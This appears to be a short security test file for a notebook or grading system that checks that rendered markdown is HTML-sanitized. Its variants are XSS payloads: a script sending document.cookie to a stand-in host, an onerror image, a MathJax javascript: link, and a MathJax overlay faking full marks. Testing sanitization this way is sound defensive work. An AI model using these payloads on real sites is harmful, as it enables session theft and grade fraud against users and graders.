# tries: Puts on the page @what@.
# defence: HTML sanitized
# gains: the page
# answer: right
# status: passed
# variants:
#   markup_script:
#     what: a script
#     text: <script>fetch("https://example.org/?" + document.cookie)</script>
#   markup_event:
#     what: an image whose error handler runs a script
#     text: <img src=x onerror="alert(1)">
#   mathjax_link:
#     what: a formula that MathJax turns into a link, through a command for raw tokens
#     text: $\mmlToken{mi}[href="javascript:alert(1)"]{x}$
#   mathjax_overlay:
#     what: a formula that MathJax draws as a box over everything, with full marks
#     text: '$\bbox[position:fixed; top:0; left:0]{\text{2 of 2 points}}$'

# %% markdown
# @text@
